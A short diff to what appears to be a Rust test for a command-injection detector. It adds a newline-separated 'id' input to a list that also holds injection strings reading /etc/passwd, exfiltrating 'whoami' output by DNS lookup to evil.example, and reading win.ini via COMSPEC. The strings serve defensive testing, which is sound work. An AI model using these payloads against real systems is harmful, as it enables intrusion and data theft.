@@ -7,6 +7,7 @@ fn finds_commands_where_a_shell_looks_for_them() {
         DetectCommand,
         &[
             ";id",
+            "127.0.0.1\nid\n",
             ";a=ca;b=t;$a$b /etc/passwd",
             "127.0.0.1; nslookup `whoami`.evil.example",
             "x&%COMSPEC% /c type c:\\windows\\win.ini",
